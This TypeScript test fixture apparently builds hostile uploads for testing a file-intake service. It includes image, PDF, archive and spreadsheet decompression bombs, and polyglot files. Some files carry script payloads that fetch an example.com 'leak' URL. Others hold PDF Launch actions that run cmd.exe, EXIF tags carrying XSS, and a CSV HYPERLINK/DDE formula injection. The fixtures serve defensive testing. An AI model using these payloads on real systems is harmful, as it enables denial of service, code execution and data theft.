/** Files that are made to do harm: to take all memory, to run, to reach the network, or to be taken for something else. */
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { PNG } from 'pngjs';
import { workbookOf } from '../intake/table/workbooks';
import { pictureWithTags } from './exif';
import { isoBox, words } from './iso-boxes';
import { progressiveJpeg, repeatingJpeg } from './jpeg-scans';
import { pdfOf } from './pdfs';
import { movieOf } from './recordings';
import { avifOf, gifOfFrames } from './stills';
import { jpegWith, plainJpeg, plainPng, withMarkedCorner } from './turned-pictures';

const script = 'document.title = "ran"; fetch("https://example.com/leak"); alert("ran")';

/** A picture of a few bytes that says it is of 60,000 by 60,000 px. */
function pictureBomb(): Buffer {
  const png = PNG.sync.write(new PNG({ width: 4, height: 4 }));
  png.writeUInt32BE(60_000, 16);
  png.writeUInt32BE(60_000, 20);
  // With its checksum put right it is taken at its word.
  png.writeUInt32BE(checksum(png.subarray(12, 29)), 29);
  return png;
}

/** A picture that says the same of itself, behind more of what decoders pass over than anybody reads at first. */
function paddedBomb(): Buffer {
  const photo = plainJpeg(withMarkedCorner(8, 8));
  const frame = photo.indexOf(Buffer.from([0xff, 0xc0]));
  photo.writeUInt16BE(60_000, frame + 5);
  photo.writeUInt16BE(60_000, frame + 7);
  const padding = Buffer.alloc(65_537);
  padding.writeUInt32BE(0xffe2ffff, 0);
  return jpegWith(photo, ...Array.from({ length: 6 }, () => padding));
}

const sky = { width: 60_000, height: 60_000 };
const card = { width: 40, height: 30 };
const large = { width: 4000, height: 4000 };
const heic = readFileSync('tests/fixtures/pictures/quarters.heic');

/** AVIF whose first quarter of a megabyte says that it is a card. */
function hiddenBomb(): Buffer {
  return avifOf(sky, sky, isoBox('free', isoBox('ispe', words(0, card.width, card.height)), Buffer.alloc(300_000)));
}

/** A telephone's picture with each of its sizes written over. */
function heicBomb(): Buffer {
  const bytes = Buffer.from(heic);
  for (let at = bytes.indexOf('ispe'); at >= 0; at = bytes.indexOf('ispe', at + 4)) {
    bytes.writeUInt32BE(sky.width, at + 8);
    bytes.writeUInt32BE(sky.height, at + 12);
  }
  return bytes;
}

/** A picture as a chat sends it, which says that it is as large as its format lets it be, and is cut off. */
const webpBomb = Buffer.from('RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0nothing', 'latin1');

function checksum(bytes: Uint8Array): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** A page as long as the sky, with more pages than there are, that would open an address and run a script. */
function pdfThatActs(): Buffer {
  const action = `/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('https://example.com/leak'\\)) >>`;
  const text = pdfOf(['检验报告']).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${action}`);
  return Buffer.from(text.replace('[0 0 595 842]', '[0 0 595 9e9]').replace('/Count 1', '/Count 999999999'), 'latin1');
}

/** A PDF whose page unpacks to a gigabyte. */
function pdfBomb(): Buffer {
  const inner = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  const outer = deflateSync(inner);
  const stream = `<< /Length ${outer.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${outer.toString('latin1')}\nendstream`;
  const text = pdfOf(['检验报告']).toString('latin1');
  return Buffer.from(
    text.replace(/<< \/Length[\s\S]*?endstream/, () => stream),
    'latin1',
  );
}

/** A page that would open a program and an address, with a program in it. */
function pdfThatOpens(): Buffer {
  const opens = '<< /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>';
  const link = `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI (https://example.com/leak) >> /AA << /E ${opens} >> >>`;
  const inside = '<< /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>] >>';
  const text = pdfOf(['检验报告'])
    .toString('latin1')
    .replace('/Type /Catalog', `/Type /Catalog /OpenAction ${opens} /Names << /EmbeddedFiles ${inside} >>`)
    .replace('/Type /Page ', `/Type /Page /AA << /O ${opens} >> /Annots [${link}] `);
  return Buffer.from(text, 'latin1');
}

/** Behind its length and name, each filled up to two bytes (RIFF). */
function riffChunk(name: string, content: Buffer): Buffer {
  const head = Buffer.from(`${name}\0\0\0\0`, 'latin1');
  head.writeUInt32LE(content.length, 4);
  return Buffer.concat([head, content, Buffer.alloc(content.length % 2)]);
}

/** One point, and a profile of sixteen megabytes for its colours. */
function webpWithProfile(): Buffer {
  const extended = riffChunk('VP8X', Buffer.from('20000000000000000000', 'hex'));
  const profile = riffChunk('ICCP', Buffer.alloc(16 * 1024 * 1024, 'RGB '));
  const point = riffChunk('VP8L', Buffer.from('2f00000010071011118888fe07', 'hex'));
  return riffChunk('RIFF', Buffer.concat([Buffer.from('WEBP'), extended, profile, point]));
}

/** A picture that is an archive too, and a page for whoever takes it for one. */
function pictureArchive(): Buffer {
  const page = Buffer.from(`<html><script>${script}</script></html>`);
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(page.length + 2, 2);
  const picture = jpegWith(plainJpeg(withMarkedCorner(40, 30)), Buffer.concat([head, page]));
  return Buffer.concat([picture, Buffer.from(zipSync({ 'a.html': page }))]);
}

/** A spreadsheet of a few kilobytes whose texts are more than there may be. */
function workbookBomb(): Buffer {
  const strings = `<sst>${'<si/>'.repeat(2_100_000)}</sst>`;
  return Buffer.from(workbookOf([['运单号'], ['SF1']], { 'xl/sharedStrings.xml': strings }));
}

/** A film of 65,535 by 65,535 px that says it goes on for half a million years, of pictures whose lengths are said four billion times. */
function endlessFilm(): Buffer {
  const bytes = movieOf('avc1', 30, [[0xffffffff, 0xffffffff]]);
  bytes.fill(0xff, bytes.indexOf('mvhd') + 16, bytes.indexOf('mvhd') + 24);
  bytes.fill(0xff, bytes.indexOf('stts') + 8, bytes.indexOf('stts') + 12);
  bytes.fill(
    0xff,
    bytes.indexOf('avc1', bytes.indexOf('stsd')) + 28,
    bytes.indexOf('avc1', bytes.indexOf('stsd')) + 32,
  );
  return bytes;
}

/** Said in more brackets than can be written out again. */
const deepChat = `{"messages":[{"sender":"买家","content":"桌面裂了"},{"sender":"卖家","content":${'['.repeat(200_000)}${']'.repeat(200_000)}}]}`;

/** Of a camera and a program that would be a page's own, and read as another name than they are. */
const saysTooMuch = pictureWithTags({
  model: '<img src=x onerror=alert(1)>',
  software: `<script>${script}</script>\u0007`,
  creatorTool: 'Snap\u202egpj.exe',
  taken: '9999:99:99 99:99:99',
  place: [4e5, -4e5],
});

export interface HostileFile {
  name: string;
  content: Buffer;
}

export const hostileFiles: readonly HostileFile[] = [
  { name: 'bomb.png', content: pictureBomb() },
  { name: 'padded.jpg', content: paddedBomb() },
  // Of one point, with a first frame that windows make room for; and with a second one, that they do not.
  { name: 'frame.gif', content: gifOfFrames({ width: 1, height: 1 }, [sky]) },
  { name: 'second.gif', content: gifOfFrames(card, [card, sky]) },
  { name: 'frames.gif', content: gifOfFrames(large, Array<typeof large>(20_000).fill(large)) },
  { name: 'bomb.webp', content: webpBomb },
  { name: 'bomb.avif', content: avifOf(sky) },
  { name: 'hidden.avif', content: hiddenBomb() },
  // A card that unpacks to 270 megapixels.
  { name: 'unfolds.avif', content: avifOf(card, { width: 16_384, height: 16_384 }) },
  { name: 'bomb.heic', content: heicBomb() },
  { name: 'thin.png', content: plainPng({ width: 1, height: 60_000, data: new Uint8Array(240_000).fill(255) }) },
  { name: 'flat.png', content: plainPng({ width: 60_000, height: 1, data: new Uint8Array(240_000).fill(255) }) },
  // Each of its scans, of two bytes, says something of all of it.
  { name: 'scans.jpg', content: progressiveJpeg(64, 400) },
  { name: 'again.jpg', content: repeatingJpeg(64, 400) },
  { name: 'profile.webp', content: webpWithProfile() },
  { name: 'tags.jpg', content: saysTooMuch },
  { name: 'empty.jpg', content: Buffer.alloc(0) },
  { name: 'cut.jpg', content: Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex') },
  { name: 'cut.png', content: plainPng(withMarkedCorner(8, 8)).subarray(0, 40) },
  { name: 'cut.gif', content: gifOfFrames(card, [card]).subarray(0, 40) },
  { name: 'cut.avif', content: avifOf(card).subarray(0, -20) },
  { name: 'cut.heic', content: heic.subarray(0, heic.length / 2) },
  {
    name: 'drawing.svg',
    content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`),
  },
  {
    name: 'page.html',
    content: Buffer.from(`<!doctype html><img src="https://example.com/x.png"><script>${script}</script>`),
  },
  { name: 'drawing.png', content: Buffer.from(`<?xml version="1.0"?><svg><script>${script}</script></svg>`) },
  { name: 'both.jpg', content: pictureArchive() },
  // A GIF that is a script too, and a picture's name over a page.
  { name: 'both.gif', content: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${script}`, 'latin1') },
  { name: 'page.png', content: Buffer.from(`<html><script>${script}</script></html>`) },
  { name: 'acts.pdf', content: pdfThatActs() },
  { name: 'opens.pdf', content: pdfThatOpens() },
  { name: 'bomb.pdf', content: pdfBomb() },
  { name: 'both.pdf', content: Buffer.concat([pdfOf(['x']), Buffer.from(zipSync({ 'a.html': strToU8(script) }))]) },
  { name: 'film.mp4', content: Buffer.concat([movieOf('avc1', 30).subarray(0, 300), Buffer.alloc(4000, 0xff)]) },
  {
    name: 'film.webm',
    content: Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.from('webm'), Buffer.alloc(4000, 0x7f)]),
  },
  { name: 'sound.mp3', content: Buffer.concat([Buffer.from('ID3'), Buffer.alloc(4000, 0xff)]) },
  { name: 'endless.mp4', content: endlessFilm() },
  { name: 'deep-chat.json', content: Buffer.from(deepChat) },
  {
    name: 'formulas.csv',
    content: Buffer.from(`运单号,备注\n"=HYPERLINK(""https://example.com/leak"",""x"")",=cmd|' /C calc'!A0`),
  },
  { name: 'bomb.docx', content: Buffer.from(zipSync({ 'word/document.xml': new Uint8Array(50 * 1024 * 1024) })) },
  { name: 'bomb.xlsx', content: workbookBomb() },
  { name: 'deep.json', content: Buffer.from('['.repeat(2_000_000)) },
  { name: 'many.zip', content: Buffer.from(zipSync({ 'zeros.bin': new Uint8Array(50 * 1024 * 1024) })) },
];
